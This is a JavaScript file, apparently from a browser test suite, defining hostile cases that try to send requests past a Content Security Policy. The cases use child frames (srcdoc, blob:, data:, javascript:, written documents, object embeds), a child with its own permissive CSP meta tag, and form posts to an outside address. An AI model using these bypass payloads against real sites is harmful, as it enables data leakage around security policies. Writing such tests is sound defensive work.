// Documents inside this one, which may have another policy, and forms that post into them.
{
  const { add, attack, out } = hostile;

  hostile.group("documents", "Child documents and forms");

  /** @param {string} id */
  const escape = (id) =>
    `<img src="${out(id)}"><script>fetch("${out(id)}", {mode: "no-cors"}); new WebSocket("${out(id)}")<\/script>`;

  attack("frame", "A frame from an undeclared address", ({ id }) => add("iframe", { src: out(id) }) && undefined);
  attack("frame-moved", "A blank frame that is sent elsewhere", ({ id }) => {
    add("iframe", {}).contentWindow.location = out(id);
  });
  attack("child-blank", "A blank frame whose window fetches", ({ id }) => {
    const { contentWindow } = add("iframe", {});
    new contentWindow.Image().src = out(id);
    return void contentWindow.fetch(out(id), { mode: "no-cors" }).catch(() => {});
  });
  attack("child-srcdoc", "A srcdoc document", ({ id }) => add("iframe", { srcdoc: escape(id) }) && undefined);
  attack("child-blob", "A blob: document", ({ id }) => {
    const src = URL.createObjectURL(new Blob([escape(id)], { type: "text/html" }));
    add("iframe", { src });
  });
  attack("child-data", "A data: document", ({ id }) =>
    add("iframe", { src: `data:text/html,${encodeURIComponent(escape(id))}` }) && undefined,
  );
  attack("child-javascript", "A javascript: document", ({ id }) =>
    add("iframe", { src: `javascript:${JSON.stringify(escape(id))}` }) && undefined,
  );
  attack("child-written", "A frame that is written into", ({ id }) => {
    const inner = add("iframe", {}).contentDocument;
    inner.open();
    inner.write(escape(id));
    inner.close();
  });
  attack("child-object", "A blob: document in an <object>", ({ id }) => {
    add("object", { data: URL.createObjectURL(new Blob([escape(id)], { type: "text/html" })), type: "text/html" });
  });
  attack("child-unpoliced", "A child whose policy is a <meta> of its own", ({ id }) => {
    const meta = `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">`;
    add("iframe", { srcdoc: meta + escape(id) });
  });
  attack("form-child", "A form that posts into a child frame", ({ id }) => {
    add("iframe", { name: "hostile-form-child" });
    add("form", { action: out(id), method: "post", target: "hostile-form-child" }).submit();
  });
  attack("form-in-child", "A form of a child that posts in place", ({ id }) =>
    add("iframe", { srcdoc: `<form action="${out(id)}" method="post"></form><script>document.forms[0].submit()<\/script>` }) && undefined,
  );
  attack("form-window", "A form that posts into a new window", ({ id }) =>
    add("form", { action: out(id), method: "post", target: "_blank" }).submit(),
  );
}
